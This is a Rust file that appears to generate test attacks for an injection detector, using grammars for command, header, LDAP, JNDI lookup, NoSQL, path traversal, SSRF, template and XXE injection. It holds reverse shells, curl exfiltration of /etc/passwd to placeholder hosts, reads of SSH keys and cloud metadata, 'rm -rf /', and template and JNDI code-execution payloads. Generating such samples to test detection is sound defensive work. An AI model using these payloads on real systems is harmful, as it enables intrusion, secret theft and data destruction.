//! Attacks of every class, from grammars of our own. In: a class, a seed. Out: attacks as they would stand in a value. Never here: clean
//! texts. Those of [`tuned`] were looked at while rules were written; those of [`held`] use tricks of which no rule was tuned.
use enforcer_insight::injection::Class;

use super::grammar::{Grammar, Random, text};

/// An attack of this class; letters change case where its language does not mind.
pub(crate) fn tuned(class: Class, random: &mut Random) -> String {
    let start = if random.below(3) == 0 { "other" } else { "attack" };
    let attack = match (class, random.below(4)) {
        (Class::Command, 0) => text("command-seen", super::attacks_held::HELD, random),
        _ => text(start, grammar(class), random),
    };
    vary(class, attack, random)
}

/// An attack with tricks that rules were not tuned with.
pub(crate) fn held(class: Class, random: &mut Random) -> String {
    let attack = text(class.name(), super::attacks_held::HELD, random);
    vary(class, attack, random)
}

fn grammar(class: Class) -> Grammar {
    match class {
        Class::Command => COMMAND,
        Class::Header => HEADER,
        Class::Ldap => LDAP,
        Class::Lookup => LOOKUP,
        Class::NoSql => NOSQL,
        Class::Path => PATH,
        Class::Sql => super::attacks_sql::SQL,
        Class::Ssrf => SSRF,
        Class::Template => TEMPLATE,
        Class::Xss => super::attacks_xss::XSS,
        Class::Xxe => XXE,
    }
}

/// Mixes case in a third of the attacks on languages without case; encodes once more in a tenth of all.
fn vary(class: Class, attack: String, random: &mut Random) -> String {
    let mixed = matches!(class, Class::Sql | Class::Header) && random.below(3) == 0;
    let attack = if mixed { mix(&attack, random) } else { attack };
    let signs = |c: char| c.is_ascii_punctuation();
    match random.below(10) {
        1 if class == Class::Sql => attack.replace(' ', "+"),
        0 if !attack.contains('%') => {
            attack.chars().map(|c| if signs(c) { format!("%{:02x}", u32::from(c)) } else { c.into() }).collect()
        }
        _ => attack,
    }
}

fn mix(text: &str, random: &mut Random) -> String {
    text.chars().map(|c| if random.below(2) == 0 { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() }).collect()
}

const COMMAND: Grammar = &[
    (
        "attack",
        &[
            "«value»«sign»«space»«run»«end»",
            "«value»$(«run»)",
            "«value»`«run»`",
            "«sign»«space»«run»«end»",
            "«value»'«sign»«space»«run»«sign»'",
            "«value»\"«sign»«space»«run»«sign»\"",
            "() { :;}; «folder»«run»",
            "«code»",
        ],
    ),
    ("value", &["", "", "«n»", "«id».txt", "127.0.0.1", "«id»@example.org", "«noun»", "a"]),
    ("sign", &[";", "|", "||", "&", "&&", "\n", ";;", " | ", " ; ", " && "]),
    ("space", &["", "", " ", "  ", "\t"]),
    ("end", &["", "", " #", ";", " 2>&1", " &", " |"]),
    ("gap", &[" ", " ", " ", "${IFS}", "$IFS$9", "\t", "  "]),
    ("folder", &["/bin/", "/usr/bin/", ""]),
    (
        "run",
        &[
            "«folder»cat«gap»«target»",
            "«folder»ls«gap»-la",
            "whoami",
            "id",
            "uname«gap»-a",
            "sleep«gap»«d»",
            "ping«gap»-c«gap»«d»«gap»127.0.0.1",
            "curl«gap»http://«id».example/«id»",
            "wget«gap»http://«id».example/«id»«gap»-O«gap»/tmp/«id»",
            "nc«gap»-e«gap»/bin/sh«gap»10.0.0.«d»«gap»«n»",
            "bash«gap»-c«gap»'id'",
            "bash -i >& /dev/tcp/10.0.0.«d»/«n» 0>&1",
            "nslookup«gap»«id».example",
            "echo«gap»«id»",
            "c'a't«gap»«target»",
            "w\\ho\\am\\i",
            "c\"a\"t«gap»«target»",
            "ifconfig",
            "netstat«gap»-an",
            "python3«gap»-c«gap»'import os'",
            "{cat,/etc/passwd}",
            "/???/c?t«gap»/???/p?ss??",
            "dir«gap»C:\\",
            "type«gap»C:\\boot.ini",
            "ipconfig«gap»/all",
            "net«gap»user",
            "powershell«gap»-enc«gap»«hex»",
            "rm«gap»-rf«gap»/",
            "head«gap»«target»",
            "env",
            "ps«gap»aux",
            "perl«gap»-e«gap»'print 1'",
        ],
    ),
    (
        "target",
        &["/etc/passwd", "/etc/shadow", "/etc/hosts", "/proc/self/environ", "../../config.php", "/var/log/auth.log"],
    ),
    (
        "code",
        &[
            "<?php system('«run»'); ?>",
            "__import__('os').system('id')",
            "require('child_process').exec('id')",
            "phpinfo()",
            "shell_exec('id')",
            "<!--#exec cmd=\"id\" -->",
            "${@print(system('id'))}",
            "Runtime.getRuntime().exec(\"id\")",
            "system('ls')",
        ],
    ),
    (
        "other",
        &[
            "«value»%0a«run2»",
            "«value»\r\n«run2»",
            "«value»;«run2»//",
            "«value»|«run2»;«id»",
            "«value»&«run2»&",
            "\";«run2»;\"",
            "'|«run2» #",
            "«value»;«space»«run2»||«id»",
            "$(«run2»)",
            "«value»;(«run2»)",
            "«value»|(«run2»)",
        ],
    ),
    (
        "run2",
        &[
            "tac /etc/passwd",
            "hostname -f",
            "printenv",
            "cat<«target»",
            "a=id;$a",
            "wh''oami",
            "i\\fconfig",
            "/usr/bin/i?",
            "curl -d @/etc/passwd «id».example",
            "socat tcp:10.0.0.1:«n» exec:sh",
            "busybox wget «id».example",
            "php -r 'echo 1;'",
            "ruby -e 'puts 1'",
            "awk 'BEGIN{print 1}'",
            "base64 /etc/passwd",
            "timeout 5 id",
            "/sbin/ifconfig -a",
            "stat /etc/passwd",
            "dig «id».example",
            "touch /tmp/«id»",
            "chmod 777 /tmp/«id»",
            "certutil -urlcache -f http://«id».example a.exe",
            "tasklist /v",
            "systeminfo",
            "ver",
            "echo «n»>/tmp/«id»",
            "find / -name id_rsa",
            "grep root /etc/passwd",
            "cat $HOME/.ssh/id_rsa",
            "sed -n p /etc/passwd",
        ],
    ),
];

const HEADER: Grammar = &[
    (
        "attack",
        &[
            "«value»\r\n«line»",
            "«value»\n«line»",
            "«id»\r\n\r\n<html>«id»</html>",
            "«value»\r\n«line»\r\n\r\n<script>alert(1)</script>",
            "«id»@example.org\r\nBcc: «id»@example.org",
            "«id»@example.org\nCc: «id»@example.org",
            "«value»\rSet-Cookie: «id»=1",
            "«value»%0d%0a«line»",
        ],
    ),
    ("value", &["", "«n»", "«id»", "/«noun»", "en", "https://shop.example/"]),
    (
        "line",
        &[
            "Set-Cookie: «id»=«n»",
            "Location: https://«id».example/",
            "Content-Length: 0\r\n\r\nHTTP/1.1 200 OK",
            "Content-Type: text/html",
            "Refresh: 0;url=https://«id».example",
            "HTTP/1.1 200 OK",
        ],
    ),
    (
        "other",
        &[
            "«value»\r\n Set-Cookie:«id»=«n»",
            "«value»\r\n\tLocation: //«id».example",
            "«value»嘊嘍Set-Cookie: «id»=1",
            "«value»\r\nAccess-Control-Allow-Origin: *",
            "«value»\nContent-Security-Policy: «id»",
            "«id»\r\nReply-To: «id»@example.org",
            "«value»\r\nTransfer-Encoding: chunked\r\n\r\n0",
            "«value»\nLink: <https://«id».example>; rel=preload",
            "«value»\\r\\nSet-Cookie: a=1",
        ],
    ),
];

const LDAP: Grammar = &[
    (
        "attack",
        &[
            "«value»*)(«attribute»=*",
            "«value»)(«attribute»=«id»",
            "*)(&",
            "«value»)(&)",
            "*)(|(«attribute»=*",
            "«value»*))(|(«attribute»=*",
            "«value»)(|(«attribute»=*))",
            "*))\0",
            "«value»)(!(&(|",
            "*)(«attribute»=*))(|(«attribute»=*",
            "«value»)(«attribute»=«id»))\0",
        ],
    ),
    ("value", &["", "admin", "«id»", "*"]),
    ("attribute", &["uid", "cn", "objectClass", "mail", "userPassword", "sn", "memberOf", "department"]),
    (
        "other",
        &[
            "«id»)(«attribute2»>=a",
            "«id»*)(«attribute2»~=«id»",
            "«id»)(!(«attribute2»=«id»)",
            "«id»))(|(«attribute2»=*)(«attribute2»=*",
            "*)(«attribute2»:=x",
            "«id»)(|(&(«attribute2»=«id»)",
            "' or name()='«id»' or 'a'='b",
            "']|//*|//*['",
        ],
    ),
    ("attribute2", &["telephoneNumber", "givenName", "ou", "employeeType", "homeDirectory", "sAMAccountName", "title"]),
];

const LOOKUP: Grammar = &[
    (
        "attack",
        &[
            "${jndi:«scheme»://«id».example/«id»}",
            "${${lower:j}ndi:«scheme»://«id».example/a}",
            "${${::-j}${::-n}${::-d}${::-i}:«scheme»://«id».example/a}",
            "${j${lower:n}di:«scheme»://«id».example/a}",
            "${${env:X:-j}ndi${env:X:-:}«scheme»://«id».example/a}",
            "${jndi:«scheme»://${env:AWS_SECRET_ACCESS_KEY}.«id».example}",
            "${env:HOME}",
            "${sys:java.version}",
            "${${upper:j}ndi:«scheme»://«id».example}",
        ],
    ),
    ("scheme", &["ldap", "rmi", "dns", "ldaps", "iiop", "${lower:l}dap"]),
    (
        "other",
        &[
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:«scheme»://«id».example}",
            "${jn${lower:d}${lower:i}:«scheme»://127.0.0.1:«n»/«id»}",
            "${${«id»:«id»:-j}${«id»:-n}di:«scheme»://«id».example/x}",
            "«id» ${jndi${lower::}«scheme»://«id».example}",
            "${${lower:${lower:jndi}}:«scheme»://«id».example}",
            "${java:os}",
            "${ctx:«id»} ${docker:containerId}",
            "${j${k8s:k5:-ND}i${sd:k5:-:}«scheme»://«id».example}",
        ],
    ),
];

const NOSQL: Grammar = &[
    (
        "attack",
        &[
            "{\"$«op»\": \"\"}",
            "{\"$«op»\": «n»}",
            "{'$«op»':'«id»'}",
            "{$where: 'sleep(«n»)'}",
            "' || '1'=='1",
            "'; return true; var x='",
            "' && this.password.match(/.*/)//",
            "';sleep(5000);'",
            "1'; while(true){}; '",
            "{\"username\": {\"$«op»\": null}, \"password\": {\"$«op»\": null}}",
            "' || 1==1//",
            "admin' || 'a'=='a",
            "\"; return 1==1; var a=\"",
            "'});db.users.find();",
            "true, $where: '1 == 1'",
            "[$«op»]=«n»",
        ],
    ),
    ("op", &["ne", "gt", "gte", "lt", "regex", "in", "nin", "exists", "where", "or"]),
    (
        "other",
        &[
            "{\"$«op2»\":[{},{\"a\":\"a\"}]}",
            "' || this.«id» != '",
            "';return(true);var a='",
            "{\"«id»\":{\"$«op2»\":\"^«id»\"}}",
            "' || obj.«id».length > 0 || '",
            "1;db.dropDatabase()",
            "'; var d = new Date(); do { c = new Date(); } while (c-d<«n»); '",
            "{ \"$«op2»\" : { \"$«op»\" : 1 } }",
            "' && this.«id»['a'] == 'b",
            "'||(function(){return true})()||'",
        ],
    ),
    ("op2", &["and", "nor", "not", "expr", "all", "size", "elemMatch", "mod", "type"]),
];

const PATH: Grammar = &[
    (
        "attack",
        &[
            "«up»«up»«up»«target»",
            "«up»«up»«up»«up»«up»«target»",
            "«up»«up»«target»\0.png",
            "/«noun»/«up»«up»«up»«target»",
            "/«target»",
            "..\\..\\..\\windows\\win.ini",
            "....//....//....//«target»",
            "..;/..;/..;/«target»",
            "file:///«target»",
            "php://filter/convert.base64-encode/resource=«id».php",
            "C:\\boot.ini",
            "«up»«up»«up»«up»«up»«up»«noun»/«id».conf",
            "%2e%2e%2f%2e%2e%2f%2e%2e%2f«target»",
            "..%c0%af..%c0%af..%c0%af«target»",
            "..%5c..%5c..%5cboot.ini",
            "..%255c..%255cwindows/win.ini",
            "«up»«up»WEB-INF/web.xml",
            "«noun»/«up»«up»«up»«up»«target»",
        ],
    ),
    ("up", &["../"]),
    (
        "target",
        &[
            "etc/passwd",
            "etc/shadow",
            "etc/hosts",
            "proc/self/environ",
            "var/log/apache2/access.log",
            "root/.ssh/id_rsa",
            "windows/system32/drivers/etc/hosts",
        ],
    ),
    (
        "other",
        &[
            "..././..././..././«target2»",
            "..//..//..//..//«target2»",
            "«noun»/..\\../..\\../..\\«target2»",
            "%252e%252e%252f%252e%252e%252f«target2»",
            "%u002e%u002e%u2215%u002e%u002e%u2215«target2»",
            "／．．／．．／«target2»",
            "/./.././.././../«target2»",
            "\\..\\..\\..\\..\\«target2»",
            "..%00/..%00/..%00/«target2»",
            "..%e0%80%af..%e0%80%af..%e0%80%af«target2»",
            "expect://id",
            "zip://«id».zip#a",
            "/%2e%2e/%2e%2e/%2e%2e/«target2»",
        ],
    ),
    (
        "target2",
        &[
            "etc/group",
            "etc/issue",
            "proc/version",
            "etc/ssh/sshd_config",
            ".env",
            ".git/config",
            "boot.ini",
            "etc/crontab",
            "var/www/html/index.php",
            "home/«id»/.bash_history",
            "winnt/win.ini",
        ],
    ),
];

const SSRF: Grammar = &[
    (
        "attack",
        &[
            "http://127.0.0.1:«n»/",
            "http://localhost/«noun»",
            "http://169.254.169.254/latest/meta-data/",
            "http://[::1]/",
            "http://2130706433/",
            "http://0x7f000001/",
            "http://0177.0.0.1/",
            "http://192.168.«d».«d»/admin",
            "http://10.0.«d».«d»:«n»/",
            "gopher://127.0.0.1:6379/_INFO",
            "dict://127.0.0.1:11211/stats",
            "http://metadata.google.internal/computeMetadata/v1/",
            "http://127.1/",
            "http://0.0.0.0:«n»",
            "http://«id»@127.0.0.1/",
            "http://127.0.0.1.nip.io/",
            "https://localhost:8443/actuator",
            "file:///etc/passwd",
            "http://0/",
        ],
    ),
    (
        "other",
        &[
            "http://[::ffff:127.0.0.1]/",
            "http://017700000001/",
            "http://0x7f.0x0.0x0.0x1/«id»",
            "http://①②⑦.⓪.⓪.①/",
            "http://169.254.170.2/v2/credentials",
            "http://100.100.100.200/latest/meta-data/",
            "ldap://127.0.0.1:389/«id»",
            "tftp://10.0.0.«d»/«id»",
            "http://localtest.me/",
            "http://172.16.«d».«d»/",
            "http:\\\\127.0.0.1\\«id»",
            "jar:http://127.0.0.1!/«id»",
            "http://kubernetes.default.svc.cluster.local/",
            "http://[0:0:0:0:0:0:0:1]:«n»/",
            "//169.254.169.254/latest/user-data",
            "http://3232235521/",
        ],
    ),
];

const TEMPLATE: Grammar = &[
    (
        "attack",
        &[
            "«open»«sum»«close»",
            "{{«reach»}}",
            "${«java»}",
            "«id»{{«d»*«d»}}«id»",
            "<%= «ruby» %>",
            "#{«sum»}",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "{% import os %}{{ os.system('id') }}",
            "{{config}}",
            "{{self.__init__.__globals__}}",
            "*{«java»}",
            "#set($x='')$x.getClass().forName('java.lang.Runtime')",
            "<#assign x=\"freemarker.template.utility.Execute\"?new()>${x(\"id\")}",
            "{php}echo `id`;{/php}",
            "{{constructor.constructor('alert(1)')()}}",
            "%{«java»}",
        ],
    ),
    ("open", &["{{", "${", "#{", "{{ ", "${{", "<%= "]),
    ("close", &["}}", "}", " }}", "}}"]),
    ("sum", &["«d»*«d»", "«n»*«n»", "'«d»'*«d»", "«d»+«d»", "«n»-«d»"]),
    (
        "reach",
        &[
            "config.items()",
            "request.application.__globals__",
            "self._TemplateReference__context",
            "''.__class__",
            "cycler.__init__.__globals__.os.popen('id').read()",
            "_self.env.registerUndefinedFilterCallback('exec')",
            "lipsum.__globals__",
            "['id']|filter('system')",
            "request|attr('application')",
        ],
    ),
    (
        "java",
        &[
            "T(java.lang.Runtime).getRuntime().exec('id')",
            "''.getClass().forName('java.lang.Runtime')",
            "new java.lang.ProcessBuilder('id').start()",
            "#rt=@java.lang.Runtime@getRuntime()",
            "«d»*«d»",
        ],
    ),
    ("ruby", &["system('id')", "`id`", "File.open('/etc/passwd').read", "«d»*«d»", "Dir.entries('/')"]),
    (
        "other",
        &[
            "{{ request['__class__'] }}",
            "{{()|attr('__class__')}}",
            "{%print(«d»*«d»)%}",
            "{{ joiner.__init__.__globals__.os }}",
            "@(«d»*«d»)",
            "[[${«d»*«d»}]]",
            "~{«java»}",
            "{{ url_for.__globals__ }}",
            "${self.module.cache.util.os.system('id')}",
            "{{ get_flashed_messages.__globals__ }}",
            "{{[].class.base.subclasses()}}",
            "${\"freemarker.template.utility.ObjectConstructor\"?new()}",
            "{{ app.request.server.all|join(',') }}",
            "<%= self.class.name %>",
            "{{ dump(app) }}",
            "#{T(java.lang.System).getenv()}",
            "{{'/etc/passwd'|file_excerpt(1,30)}}",
            "${pageContext.request.getSession()}",
            "{{range.constructor(\"return global.process\")()}}",
            "{{= «d»*«d» }}",
        ],
    ),
];

const XXE: Grammar = &[
    (
        "attack",
        &[
            "<?xml version=\"1.0\"?><!DOCTYPE «id» [<!ENTITY «id» SYSTEM \"«uri»\">]><a>&«id»;</a>",
            "<!DOCTYPE «id» [<!ENTITY % «id» SYSTEM \"«uri»\"> %«id»;]>",
            "<!DOCTYPE a SYSTEM \"«uri»\">",
            "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"«uri»\"/></a>",
            "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;\">]>",
            "<!DOCTYPE a [<!ENTITY x PUBLIC \"a\" \"«uri»\">]><a>&x;</a>",
        ],
    ),
    (
        "uri",
        &[
            "file:///etc/passwd",
            "http://«id».example/«id».dtd",
            "php://filter/read=convert.base64-encode/resource=index.php",
            "expect://id",
            "file:///c:/boot.ini",
            "ftp://«id».example/",
        ],
    ),
    (
        "other",
        &[
            "<!DOCTYPE r [\n<!ELEMENT r ANY >\n<!ENTITY sp SYSTEM\t'«uri»'>]>",
            "<!DOCTYPE a [<!ENTITY % b '<!ENTITY &#x25; c SYSTEM \"«uri»\">'>%b;]>",
            "<!doctype a public \"-//A//B\" \"http://«id».example/x\">",
            "<!DOCTYPE a [<!ENTITY b SYSTEM 'netdoc:///etc/passwd'>]>",
            "<foo xmlns:y=\"http://www.w3.org/2001/XInclude\"><y:include href=\"«uri»\"/></foo>",
            "<xsl:value-of select=\"document('«uri»')\"/>",
            "<!DOCTYPE a [<!ENTITY a0 'dos'><!ENTITY a1 '&a0;&a0;'>]><a>&a1;</a>",
        ],
    ),
];
